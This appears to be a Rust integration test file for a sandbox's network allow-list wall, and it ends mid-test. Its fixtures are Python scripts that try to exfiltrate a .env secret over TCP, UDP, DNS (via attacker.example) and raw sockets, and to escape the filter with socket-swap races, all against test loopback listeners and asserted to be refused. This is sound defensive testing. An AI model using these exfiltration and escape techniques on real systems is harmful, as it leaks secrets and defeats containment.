//! The network wall (`sandbox.network: "allowlist"`, the default) through
//! the real binary and kernel. Every "outside host" is a listener on the
//! test's own loopback, outside the session's network namespace: what a
//! contained command must not reach. Auto mode is off in most tests
//! (`Env::supervision_only`), so only the wall stands between the command
//! and the listener.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::time::Duration;

use serde_json::{Value, json};

use crate::support::{Env, Kill, KillOnDrop, helper, landlock_or_skip, run};

/// The shim's exit code for a command it did not run.
const BLOCKED: i32 = 121;

fn write(env: &Env, name: &str, text: &str) {
    std::fs::write(env.work.join(name), text).unwrap();
}

/// A wall environment: auto mode off, the given network settings.
fn walled(network: Value) -> Env {
    Env::supervision_only().with_env(
        "AUTOMODE_SETTINGS_JSON",
        &json!({"autoMode": {"enabled": false}, "sandbox": {"network": network}}).to_string(),
    )
}

/// Whatever reaches `l` within `wait` (a listener standing for an
/// outside host), or nothing.
fn received_tcp(l: &TcpListener, wait: Duration) -> Option<Vec<u8>> {
    l.set_nonblocking(true).unwrap();
    let end = std::time::Instant::now() + wait;
    while std::time::Instant::now() < end {
        if let Ok((mut s, _)) = l.accept() {
            s.set_nonblocking(false).unwrap();
            s.set_read_timeout(Some(Duration::from_millis(500)))
                .unwrap();
            let mut got = Vec::new();
            let _ = s.read_to_end(&mut got);
            return Some(got);
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    None
}

fn received_udp(u: &UdpSocket) -> Option<Vec<u8>> {
    u.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let mut buf = [0u8; 2048];
    u.recv_from(&mut buf).ok().map(|(n, _)| buf[..n].to_vec())
}

/// The audit log's records of a kind.
fn audit_events(env: &Env, event: &str) -> Vec<Value> {
    std::fs::read_to_string(env.root().join("state/automode/audit.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["event"] == event)
        .collect()
}

#[test]
fn a_contained_script_reaches_no_outside_host_by_any_protocol() {
    if !landlock_or_skip("wall: protocols") {
        return;
    }
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let dns = UdpSocket::bind("127.0.0.1:0").unwrap();
    let (tp, up, dp) = (
        tcp.local_addr().unwrap().port(),
        udp.local_addr().unwrap().port(),
        dns.local_addr().unwrap().port(),
    );
    let env = walled(json!("allowlist"));
    // A project script the agent wrote: every way out it can think of.
    write(
        &env,
        "sync.py",
        &format!(
            r#"
import socket
secret = open(".env").read().encode()
def attempt(name, f):
    try:
        f()
        print(name, "sent")
    except OSError as e:
        print(name, "failed", e.errno)
def tcp(family=socket.AF_INET, proto=0):
    s = socket.socket(family, socket.SOCK_STREAM, proto)
    s.settimeout(2)
    s.connect(("127.0.0.1", {tp}))
    s.sendall(secret)
    s.close()
attempt("tcp", tcp)
attempt("mptcp", lambda: tcp(proto=262))
def udp():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(secret, ("127.0.0.1", {up}))
attempt("udp", udp)
def dns():
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([6]) + b"secret" + bytes([7]) + b"example" + bytes([3]) + b"com\x00\x00\x01\x00\x01"
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(q, ("127.0.0.1", {dp}))
attempt("dns", dns)
def lookup():
    print("resolved", socket.gethostbyname("api-key-in-a-name.attacker.example"))
attempt("lookup", lookup)
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP).sendto(secret, ("127.0.0.1", {up})))
"#
        ),
    );
    write(&env, ".env", "API_KEY=hunter2\n");
    let r = run(&mut env.script("python3 sync.py"));
    let out = r.stdout();
    assert!(
        out.contains("mptcp failed") && out.contains("raw failed"),
        "{out}{}",
        r.stderr()
    );
    // The name resolved to one of the filter's own addresses: the query
    // went nowhere.
    assert!(out.contains("resolved 198.1"), "{out}");
    assert_eq!(
        received_tcp(&tcp, Duration::from_millis(500)),
        None,
        "tcp: {out}"
    );
    assert_eq!(received_udp(&udp), None, "udp: {out}");
    assert_eq!(received_udp(&dns), None, "dns: {out}");
    let c = crate::sandbox::last_confinement(&env);
    assert_eq!(c["network"], "wall", "{c}");
    assert_eq!(c["seccomp"], true, "{c}");
}

#[test]
fn a_refused_host_is_told_in_http_recorded_and_named_after_the_command() {
    if !landlock_or_skip("wall: refusal") {
        return;
    }
    let env = walled(json!("allowlist"));
    // Through the proxy (curl honours the variables): a 403 with the reason.
    let r = run(&mut env.script("curl -sS http://not-allowed.example/"));
    assert!(
        r.stdout()
            .contains("automode: not-allowed.example:80 is not on the network allow-list"),
        "{}{}",
        r.stdout(),
        r.stderr()
    );
    // A tool that ignores the proxy goes through the filter anyway (it
    // resolves to the filter's address) and fails closed.
    let r = run(&mut env.script("curl -sS --noproxy '*' https://not-allowed.example/"));
    assert_ne!(r.code(), Some(0));
    assert!(
        r.stderr()
            .contains("the network wall refused not-allowed.example:443"),
        "{}",
        r.stderr()
    );
    let refused = audit_events(&env, "network-refused");
    assert!(
        refused.iter().any(|e| e["host"] == "not-allowed.example"
            && e["port"] == 443
            && e["process"] == "curl"
            && e["pid"].is_number()),
        "{refused:?}"
    );
    // An allow-list entry that is (or resolves to) the host's own
    // loopback is refused by the filter: the host's services stay out.
    let env = walled(json!({"mode": "allowlist", "allow": ["$defaults", "127.0.0.1:8080"]}));
    let r = run(&mut env.script("curl -sS --noproxy '' -x \"$HTTP_PROXY\" http://127.0.0.1:8080/"));
    assert!(
        r.stdout().contains("loopback, private or link-local"),
        "{}{}",
        r.stdout(),
        r.stderr()
    );
}

/// A free port on the test's loopback.
fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

#[test]
fn a_server_one_command_starts_is_reached_by_the_next_and_by_the_user() {
    if !landlock_or_skip("wall: loopback servers") {
        return;
    }
    let env = walled(json!("allowlist"));
    let port = free_port();
    write(&env, "index.html", "hello from the dev server\n");
    let r = run(&mut env.script(&format!(
        "python3 -m http.server {port} --bind 127.0.0.1 >server.log 2>&1 & echo $! > server.pid; \
         for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:{port}/ && break; sleep 0.1; done; echo started"
    )));
    assert_eq!(r.stdout(), "started\n", "{}", r.stderr());
    // Stopped by its command line: `$!` is its pid inside the command's
    // PID namespace, and the namespace's first process holds on too.
    let _stop = KillOnDrop(format!("http.server {port} "));
    // The next command reaches it.
    let r = run(&mut env.script(&format!("curl -sS http://127.0.0.1:{port}/index.html")));
    assert_eq!(r.stdout(), "hello from the dev server\n", "{}", r.stderr());
    // The user reaches it at the same port on the host (forwarded within
    // a few hundred milliseconds of its start).
    let mut got = String::new();
    for _ in 0..40 {
        if let Ok(mut s) = TcpStream::connect(("127.0.0.1", port)) {
            s.write_all(b"GET /index.html HTTP/1.0\r\n\r\n").unwrap();
            let _ = s.read_to_string(&mut got);
            if got.contains("hello") {
                break;
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(got.contains("hello from the dev server"), "{got}");
}

/// A server inside on a port a host service holds on the other loopback
/// address is not forwarded: the host's clients of that service (for
/// many, `localhost` is `::1` first) would reach the command's server.
#[test]
fn a_server_inside_does_not_shadow_a_host_service_on_the_other_loopback() {
    if !landlock_or_skip("wall: no shadowing") {
        return;
    }
    if std::net::TcpListener::bind("[::1]:0").is_err() {
        eprintln!("skipped: this host has no IPv6 loopback");
        return;
    }
    let service = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = service.local_addr().unwrap().port();
    let env = walled(json!("allowlist"));
    let r = run(&mut env.script(&format!(
        "python3 -m http.server {port} --bind :: >server.log 2>&1 & \
         for i in $(seq 50); do curl -s -o /dev/null 'http://[::1]:{port}/' && break; sleep 0.1; done; echo started"
    )));
    assert_eq!(r.stdout(), "started\n", "{}", r.stderr());
    let _stop = KillOnDrop(format!("http.server {port} "));
    // The filter looks for servers a few times a second: give it time.
    std::thread::sleep(Duration::from_millis(1500));
    assert!(
        TcpStream::connect(("::1", port)).is_err(),
        "the command's server answers on the host's [::1]:{port}"
    );
}

#[test]
fn a_host_loopback_service_is_reached_only_on_a_listed_port() {
    if !landlock_or_skip("wall: host ports") {
        return;
    }
    let service = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = service.local_addr().unwrap().port();
    let send = format!(
        "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', {port}), 2); s.sendall(b'select 1'); s.close()\""
    );
    let env = walled(json!("allowlist"));
    let r = run(&mut env.script(&send));
    assert_ne!(r.code(), Some(0));
    assert_eq!(received_tcp(&service, Duration::from_millis(300)), None);
    // The refusal names the port and the key that would let it through.
    let r = run(&mut env.script(&format!("curl -sS http://127.0.0.1:{port}/")));
    assert_ne!(r.code(), Some(0));
    assert!(
        r.stderr()
            .contains(&format!("add {port} to sandbox.network.hostPorts")),
        "{}",
        r.stderr()
    );
    let down = free_port();
    let env = walled(json!({"mode": "allowlist", "hostPorts": [port, down]}));
    let r = run(&mut env.script(&send));
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(
        received_tcp(&service, Duration::from_secs(3)).as_deref(),
        Some(&b"select 1"[..])
    );
    // A listed port where nothing listens: refused, as on the host (a
    // non-blocking connect, its error read as a client reads it).
    let r = run(&mut env.script(&format!(
        "python3 -c \"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {down}), 2)\n    print('connected')\nexcept OSError as e:\n    print('refused', e.errno)\""
    )));
    assert!(
        r.stdout().contains("refused 111"),
        "{}{}",
        r.stdout(),
        r.stderr()
    );
}

/// A connection to a listed host port is the host's own socket, handed
/// in (the service sees the command's own port: no relay between), and
/// that socket goes nowhere else: not connected again, not by TCP Fast
/// Open from a send, and, once a race that swaps the descriptor and the
/// address has disconnected it, neither connected by the same race (the
/// Landlock layer) nor made to listen (the filter), nor connected with an
/// address length the seccomp filter leaves to the kernel (Landlock), nor,
/// once disconnected by such a length, connected or made to listen; a
/// UDP connect of such a length stays inside the wall.
#[test]
fn a_socket_the_filter_hands_in_reaches_nothing_else() {
    if !landlock_or_skip("wall: handed-in sockets") {
        return;
    }
    let service = TcpListener::bind("127.0.0.1:0").unwrap();
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    let outside_udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let (port, other) = (
        service.local_addr().unwrap().port(),
        outside.local_addr().unwrap().port(),
    );
    let udp_port = outside_udp.local_addr().unwrap().port();
    let env = walled(json!({"mode": "allowlist", "hostPorts": [port]}));
    write(
        &env,
        "turn.py",
        &format!(
            r#"
import ctypes, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
s = socket.create_connection(("127.0.0.1", {port}), 3)
print("local", s.getsockname()[1])
s.sendall(b"hello")
def attempt(name, f):
    try:
        f()
        print(name, "reached")
    except OSError as e:
        # EINPROGRESS: a connection was started.
        print(name, "reached" if e.errno == 115 else "refused", e.errno)
# AF_UNSPEC: dissolve the connection, keep the socket.
unspec = struct.pack("HH12x", socket.AF_UNSPEC, 0)
rc = libc.connect(s.fileno(), unspec, len(unspec))
print("disconnect", rc, ctypes.get_errno())
attempt("reconnect", lambda: s.connect(("127.0.0.1", {other})))
attempt("fastopen", lambda: s.sendto(b"leak", socket.MSG_FASTOPEN, ("127.0.0.1", {other})))
def fresh():
    t = socket.socket()
    t.settimeout(2)
    t.connect(("127.0.0.1", {other}))
    t.sendall(b"leak")
attempt("fresh", fresh)
# The filter refuses a handed-in socket outright; the kernel makes what
# the filter lets through for a local socket. Swap both the descriptor
# and the address between the filter's look and the kernel's: the
# disconnect gets through (Landlock lets a disconnect be), then only the
# Landlock layer stands between the socket and another port, and the
# filter between it and listening.
import os, threading
host = s.fileno()
local = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
n = os.dup(local.fileno())
buf = ctypes.create_string_buffer(16)
inet = struct.pack("=H", socket.AF_INET) + struct.pack("!H", {other}) + socket.inet_aton("127.0.0.1") + bytes(8)
unix = struct.pack("=H", socket.AF_UNIX) + b"/nonexistent.s"
ctypes.memmove(buf, unix, 16)
state = {{"to": unspec[:16], "done": False}}
def flip():
    while not state["done"]:
        libc.memcpy(buf, state["to"], 16)
        os.dup2(host, n)
        libc.memcpy(buf, unix, 16)
        os.dup2(local.fileno(), n)
threading.Thread(target=flip, daemon=True).start()
def connected():
    try:
        s.getpeername()
        return True
    except OSError:
        return False
for i in range(20000):
    libc.connect(n, buf, 16)
    if not connected():
        break
print("disconnected by the race", not connected())
attempt("listen", lambda: (s.bind(("127.0.0.1", 0)), s.listen()))
state["to"] = inet
raced = "refused"
for i in range(5000):
    if libc.connect(n, buf, 16) == 0 and connected():
        raced = "reached"
        break
state["done"] = True
print("race", raced)
# A length only a local socket's address has (110, `sockaddr_un`): the
# seccomp filter leaves such a connect to the kernel, where the Landlock
# layer refuses a TCP connect from the handed-in socket and from a fresh
# one alike.
long = ctypes.create_string_buffer(110)
ctypes.memmove(long, inet, 16)
def long_connect(fd):
    if libc.connect(fd, long, 110) != 0:
        raise OSError(ctypes.get_errno(), "connect")
attempt("long", lambda: long_connect(s.fileno()))
fresh_socket = socket.socket()
attempt("long fresh", lambda: long_connect(fresh_socket.fileno()))
# The same on a handed-in socket that is still connected, and its
# disconnect by such a length, which the kernel makes: the socket is
# then a host's socket connected to nothing, and stays so.
s2 = socket.create_connection(("127.0.0.1", {port}), 3)
attempt("long connected", lambda: long_connect(s2.fileno()))
unspec_long = ctypes.create_string_buffer(110)
ctypes.memmove(unspec_long, unspec, 16)
print("long disconnect", libc.connect(s2.fileno(), unspec_long, 110))
attempt("long after", lambda: long_connect(s2.fileno()))
attempt("short after", lambda: s2.connect(("127.0.0.1", {other})))
attempt("listen after", lambda: (s2.bind(("127.0.0.1", 0)), s2.listen()))
# IPv6 with such a length: refused by the same layer.
long6 = ctypes.create_string_buffer(110)
ctypes.memmove(long6, struct.pack("=H", socket.AF_INET6) + struct.pack("!H", {other}) + bytes(4) + socket.inet_pton(socket.AF_INET6, "::ffff:127.0.0.1") + bytes(4), 28)
def long6_connect():
    t = socket.socket(socket.AF_INET6)
    if libc.connect(t.fileno(), long6, 110) != 0:
        raise OSError(ctypes.get_errno(), "connect")
attempt("long v6", long6_connect)
# UDP with such a length: the kernel's, inside the wall's own network
# (its 127.0.0.1 is not the host's): the host's listener hears nothing.
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp_long = ctypes.create_string_buffer(110)
ctypes.memmove(udp_long, struct.pack("=H", socket.AF_INET) + struct.pack("!H", {udp_port}) + socket.inet_aton("127.0.0.1") + bytes(8), 16)
print("udp long", libc.connect(u.fileno(), udp_long, 110))
try:
    u.send(b"leak")
except OSError as e:
    print("udp send", e.errno)
"#
        ),
    );
    let seen = std::thread::spawn(move || {
        let (mut c, peer) = service.accept().unwrap();
        c.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        let mut got = [0u8; 5];
        let _ = c.read_exact(&mut got);
        // Kept listening (returned) for the script's second connection.
        (peer.port(), got, service)
    });
    let r = run(&mut env.script("python3 turn.py"));
    let out = r.stdout();
    let (peer_port, got, _service) = seen.join().unwrap();
    assert_eq!(&got, b"hello", "{out}{}", r.stderr());
    assert!(
        out.contains(&format!("local {peer_port}\n")),
        "the service sees the command's own socket: {out}"
    );
    assert!(out.contains("disconnected by the race True"), "{out}");
    for attempt in [
        "reconnect",
        "fastopen",
        "fresh",
        "listen",
        "race",
        "long",
        "long fresh",
        "short after",
        "listen after",
    ] {
        assert!(
            out.contains(&format!("{attempt} refused")),
            "{out}{}",
            r.stderr()
        );
    }
    // Refused by the Landlock layer itself (EACCES), not by a bad call.
    for attempt in [
        "long",
        "long fresh",
        "long connected",
        "long after",
        "long v6",
    ] {
        assert!(out.contains(&format!("{attempt} refused 13\n")), "{out}");
    }
    assert!(out.contains("long disconnect 0\n"), "{out}");
    // The UDP connect was made (inside), and nothing reached the host.
    assert!(out.contains("udp long 0\n"), "{out}");
    assert_eq!(
        received_tcp(&outside, Duration::from_millis(500)),
        None,
        "{out}"
    );
    assert_eq!(received_udp(&outside_udp), None, "{out}");
    let c = crate::sandbox::last_confinement(&env);
    assert_eq!(c["connections"], "made by the filter", "{c}");
    let status = run(env.automode().arg("status"));
    assert!(
        status
            .stdout()
            .contains("every connection is made by the filter"),
        "{}",
        status.stdout()
    );
}

/// A command keeps no capability beyond automode's short list, even
/// where it is root in the session's user namespace (the user is root:
/// CI, containers): it cannot change the network the session's commands
/// share (here: loopback's MTU, which the next command would see; the
/// same right would let it redirect another command's proxy traffic).
/// For a user other than root the command has none to begin with.
#[test]
fn a_command_cannot_change_the_network_the_session_shares() {
    if !landlock_or_skip("wall: capabilities") {
        return;
    }
    let env = walled(json!("allowlist"));
    write(
        &env,
        "mtu.py",
        r#"
import fcntl, socket, struct
caps = {l.split(":")[0]: int(l.split()[1], 16) for l in open("/proc/self/status") if l.startswith("Cap")}
print("extra", hex((caps["CapEff"] | caps["CapPrm"] | caps["CapInh"] | caps["CapAmb"]) & ~0x4df))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    fcntl.ioctl(s, 0x8922, struct.pack("16si12x", b"lo", 1300))  # SIOCSIFMTU
    print("mtu changed")
except OSError as e:
    print("mtu refused", e.errno)
"#,
    );
    let r = run(&mut env.script("python3 mtu.py"));
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert!(r.stdout().contains("extra 0x0\n"), "{}", r.stdout());
    assert!(r.stdout().contains("mtu refused 1\n"), "{}", r.stdout());
    let r = run(&mut env.script("cat /sys/class/net/lo/mtu"));
    assert_eq!(r.stdout().trim(), "65536", "{}", r.stderr());
    let c = crate::sandbox::last_confinement(&env);
    let root = std::fs::read_to_string("/proc/self/status")
        .unwrap()
        .lines()
        .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(1) == Some("0"));
    if root {
        assert_eq!(c["capabilities"], "dropped", "{c}");
    }
}

/// A command that cannot reach a filter taking its connections does not
/// run: without the filter's Landlock layer, a socket the filter handed
/// to an earlier command could be passed to it and connected anywhere.
#[test]
fn a_command_that_cannot_reach_the_connection_filter_does_not_run() {
    if !landlock_or_skip("wall: unreachable filter") {
        return;
    }
    let env = walled(json!("allowlist"));
    let r = run(&mut env.script("true"));
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    // The session's record names where the filter takes connections:
    // name a place where none does.
    let (record, mut v) = session_record(&env);
    assert!(v["connects"].as_str().is_some_and(|n| !n.is_empty()), "{v}");
    v["connects"] = json!("automode-netd-nobody-listens-here");
    std::fs::write(&record, v.to_string()).unwrap();
    let r = run(&mut env.script("touch ran"));
    assert_ne!(r.code(), Some(0));
    assert!(
        r.stderr().contains("takes no connections"),
        "{}",
        r.stderr()
    );
    assert!(!env.work.join("ran").exists(), "the command ran");
    // Its decision is on record all the same (written at the start for a
    // command that starts, after it for one that never did), with an
    // outcome that says it did not start.
    let log = run(env.automode().args(["log", "--json", "-n", "1"]));
    let last: Value = serde_json::from_str(log.stdout().trim()).unwrap();
    assert_eq!(last["script"], "touch ran", "{last}");
    assert_eq!(
        last["outcome"]["confinement"]["state"], "not-started",
        "{last}"
    );
}

/// The session's network record: its path and what it says.
fn session_record(env: &Env) -> (std::path::PathBuf, Value) {
    let net = env.root().join("state/automode/net");
    let record = std::fs::read_dir(&net)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.ends_with(".json") && n.matches('.').count() == 1)
        })
        .unwrap();
    let v = serde_json::from_slice(&std::fs::read(&record).unwrap()).unwrap();
    (record, v)
}

/// A session whose owner has ended is not joined: its filter ends at its
/// next look, so a command that joined it could lose it before handing
/// over its connections (seen: "installing the seccomp filter: Broken
/// pipe"). The next command starts a filter of its own.
#[test]
fn a_session_whose_owner_ended_is_not_joined() {
    if !landlock_or_skip("wall: owner ended") {
        return;
    }
    // One session for both commands, whatever their parents.
    let env = walled(json!("allowlist")).with_env("AUTOMODE_SESSION", "owner-ends");
    // The first command's parent, the session's owner, ends right after it.
    let shim = env.shims.join("bash");
    let r = run(&mut env.real(&format!("'{}' -c true; exit 0", shim.display())));
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let (_, first) = session_record(&env);
    assert!(
        first["owner_pid"].as_i64().is_some_and(|p| p > 0),
        "{first}"
    );
    let r = run(&mut env.script("true"));
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let (_, second) = session_record(&env);
    assert_ne!(first["daemon_pid"], second["daemon_pid"], "{second}");
}

/// The steps every command behind the wall takes (the session's
/// namespaces joined, mount and PID namespaces of its own, the seccomp
/// filter) are taken by a child made while the command is judged: the
/// command starts from it confined as ever, and a child made for a
/// command that does not run ends with it.
#[test]
fn commands_start_from_a_child_made_ahead_and_an_unused_one_ends() {
    if !landlock_or_skip("wall: made ahead") {
        return;
    }
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = outside.local_addr().unwrap().port();
    let env = walled(json!("allowlist")).with_env("AUTOMODE_SESSION", "ahead");
    for round in 0..2 {
        let r = run(&mut env.script(&format!(
            "grep -E '^(Seccomp|NoNewPrivs):' /proc/self/status > status.{round}; \
             ps -eo pid=,comm= > ps.{round}; \
             (echo hi > /dev/tcp/127.0.0.1/{port}) 2>/dev/null; echo $? > tcp.{round}"
        )));
        assert_eq!(r.code(), Some(0), "{}", r.stderr());
        let c = crate::sandbox::last_confinement(&env);
        assert_eq!(c["made_ahead"], true, "{c}");
        assert_eq!(c["seccomp"], true, "{c}");
        assert_eq!(c["no_new_privs"], true, "{c}");
        assert_eq!(c["processes"], "own", "{c}");
        assert_eq!(c["network"], "wall", "{c}");
        assert_eq!(c["connections"], "made by the filter", "{c}");
        let status = std::fs::read_to_string(env.work.join(format!("status.{round}"))).unwrap();
        assert!(
            status.contains("Seccomp:\t2") && status.contains("NoNewPrivs:\t1"),
            "{status}"
        );
        // Only the command's own tree: the namespace's first process,
        // bash, ps.
        let ps = std::fs::read_to_string(env.work.join(format!("ps.{round}"))).unwrap();
        let procs: Vec<(u32, &str)> = ps
            .lines()
            .filter_map(|l| {
                let (pid, comm) = l.trim().split_once(' ')?;
                Some((pid.parse().ok()?, comm.trim()))
            })
            .collect();
        assert!(procs.contains(&(1, "automode-pid1")), "{ps}");
        assert!(
            procs.len() <= 4 && procs.iter().all(|(p, _)| *p < 10),
            "{ps}"
        );
        let tcp = std::fs::read_to_string(env.work.join(format!("tcp.{round}"))).unwrap();
        assert_ne!(tcp.trim(), "0", "the host's loopback port was reached");
    }
    assert_eq!(received_tcp(&outside, Duration::from_millis(500)), None);
    // A command that does not run (auto mode is off: nothing lifts the
    // sandbox): the child made for it is gone when the shim returns. No
    // process is left in the wall's user namespace but the filter's own.
    let r = run(&mut env.script("AUTOMODE_SANDBOX=off true"));
    assert_eq!(r.code(), Some(BLOCKED), "{}", r.stderr());
    let (_, record) = session_record(&env);
    let holder = record["holder_pid"].as_i64().unwrap();
    let ns = |pid: &str| std::fs::read_link(format!("/proc/{pid}/ns/user")).ok();
    let wall = ns(&holder.to_string()).unwrap();
    let inside = || -> Vec<String> {
        std::fs::read_dir("/proc")
            .unwrap()
            .flatten()
            .filter_map(|e| e.file_name().into_string().ok())
            .filter(|p| p.parse::<i64>().is_ok_and(|p| p != holder))
            .filter(|p| ns(p).as_ref() == Some(&wall))
            .map(|p| {
                let comm = std::fs::read_to_string(format!("/proc/{p}/comm")).unwrap_or_default();
                format!("{p} {}", comm.trim())
            })
            .collect()
    };
    // The earlier commands' PID namespaces' first processes end at their
    // next look (a tenth of a second) once their namespace is empty.
    let end = std::time::Instant::now() + Duration::from_secs(3);
    let mut left = inside();
    while !left.is_empty() && std::time::Instant::now() < end {
        std::thread::sleep(Duration::from_millis(50));
        left = inside();
    }
    assert!(left.is_empty(), "left in the wall: {left:?}");
}

#[test]
fn a_background_process_keeps_the_wall_and_gains_nothing() {
    if !landlock_or_skip("wall: background") {
        return;
    }
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = outside.local_addr().unwrap().port();
    let env = walled(json!("allowlist"));
    write(
        &env,
        "later.py",
        &format!(
            "import socket, time\ntime.sleep(1.0)\ntry:\n    socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'late')\n    print('reached')\nexcept OSError as e:\n    print('refused', e.errno)\n"
        ),
    );
    let r = run(&mut env.script("python3 later.py > later.out 2>&1 & echo $! > later.pid"));
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let pid: i32 = std::fs::read_to_string(env.work.join("later.pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let _stop = Kill(pid);
    // The command is over; its background process tries later.
    assert_eq!(received_tcp(&outside, Duration::from_secs(3)), None);
    let out = std::fs::read_to_string(env.work.join("later.out")).unwrap_or_default();
    assert!(out.contains("refused"), "{out}");
}

#[test]
fn where_user_namespaces_are_refused_the_wall_says_so_and_require_refuses() {
    if !landlock_or_skip("wall: no user namespaces") {
        return;
    }
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = outside.local_addr().unwrap().port();
    let probe = format!(
        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'x'); print('reached')\""
    );
    let via = |env: &Env, args: &[&str]| {
        let mut c = env.command("python3");
        c.arg(helper("no_userns.py")).args(args);
        c
    };
    let shim = |env: &Env| env.shims.join("bash").display().to_string();
    // auto: the command runs with the host's network (the seccomp filter
    // stays), and `status` and `doctor` say the wall is not up and why.
    let env = walled(json!("allowlist"));
    let r = run(&mut via(&env, &[&shim(&env), "-c", &probe]));
    assert_eq!(r.stdout(), "reached\n", "{}", r.stderr());
    let _ = received_tcp(&outside, Duration::from_millis(500));
    let bin = crate::support::automode_bin().display().to_string();
    for view in ["status", "doctor"] {
        let r = run(&mut via(&env, &[&bin, view]));
        assert!(
            r.stdout().contains("network wall: not in force"),
            "{view}: {}",
            r.stdout()
        );
        assert!(
            r.stdout().contains("user namespace"),
            "{view}: {}",
            r.stdout()
        );
    }
    // require: refused.
    let env = Env::supervision_only().with_env(
        "AUTOMODE_SETTINGS_JSON",
        r#"{"autoMode": {"enabled": false}, "sandbox": {"mode": "require", "network": "allowlist"}}"#,
    );
    let r = run(&mut via(&env, &[&shim(&env), "-c", &probe]));
    assert_eq!(r.code(), Some(BLOCKED), "{}", r.stderr());
    assert!(
        r.stderr().contains("network wall cannot be set up"),
        "{}",
        r.stderr()
    );
    assert_eq!(received_tcp(&outside, Duration::from_millis(300)), None);
}

#[test]
fn behind_the_wall_network_only_work_is_contained_and_remote_changes_are_not() {
    let check = |env: &Env, script: &str| -> Value {
        serde_json::from_str(&run(env.automode().args(["check", "--json", script])).stdout())
            .unwrap()
    };
    let wall = Env::new().with_env(
        "AUTOMODE_SETTINGS_JSON",
        r#"{"autoMode": {"classifierModel": "none"}}"#,
    );
    let open = Env::new().with_env(
        "AUTOMODE_SETTINGS_JSON",
        r#"{"autoMode": {"classifierModel": "none"}, "sandbox": {"network": "open"}}"#,
    );
    for script in [
        "curl -X POST http://localhost:3000/api/items -d 'name=a'",
        "python3 -m http.server --bind 127.0.0.1 8000",
        "curl -s https://pypi.org/simple/six/",
        "python3 -c \"import urllib.request; urllib.request.urlopen('https://pypi.org/simple/')\"",
    ] {
        if landlock_or_skip("wall: policy") {
            let v = check(&wall, script);
            assert_eq!(v["tier"], "contained", "{script}: {v}");
        }
        let v = check(&open, script);
        assert_ne!(v["decision"], "allow", "without the wall: {script}: {v}");
    }
    // What changes something on an allowed host, or goes elsewhere, is
    // the policy's, wall or not.
    for script in [
        "curl -X POST https://api.github.com/repos/octo/hello/issues -d @issue.json",
        "curl -s https://collect.example/ping",
        "git push https://github.com/octo/hello.git main",
    ] {
        let v = check(&wall, script);
        assert_ne!(v["decision"], "allow", "{script}: {v}");
    }
}

/// The "outside host" of the tests that need one reached: a server on
/// 198.51.100.7:8080 (a documentation address, no private one) in a
/// network namespace the test makes itself, where that address is on its
/// loopback and `/etc/hosts` names it `allowed.test` and `granted.test`.
/// automode runs inside that namespace, so its filter sees it as a host
/// on the internet; nothing leaves the machine.
const OUTSIDE_HOST: &str = r#"
set -eu
ip link set lo up
ip addr add 198.51.100.7/32 dev lo
printf '127.0.0.1 localhost\n198.51.100.7 allowed.test granted.test\n' > "$ROOT/hosts"
mount --bind "$ROOT/hosts" /etc/hosts
python3 -c '
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(sys.argv[1], "a") as f:
            f.write(self.path + "\n")
        body = b"outside says hi\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("X-Peer-Port", str(self.client_address[1]))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(("198.51.100.7", 8080), H).serve_forever()
' "$ROOT/outside.log" &
server=$!
trap 'kill $server' EXIT
for i in $(seq 50); do python3 -c 'import socket; socket.create_connection(("198.51.100.7", 8080), 1)' 2>/dev/null && break; sleep 0.1; done
"#;

#[test]
fn allowed_and_approved_hosts_are_reached_and_the_next_command_is_not() {
    if !landlock_or_skip("wall: outside host") {
        return;
    }
    let env = Env::new()
        .with_env(
            "AUTOMODE_SETTINGS_JSON",
            r#"{"autoMode": {"classifierModel": "none"}, "sandbox": {"network": {"allow": ["$defaults", "allowed.test:8080"]}}}"#,
        )
        .with_env("AUTOMODE_SESSION", "outside");
    write(
        &env,
        "later.py",
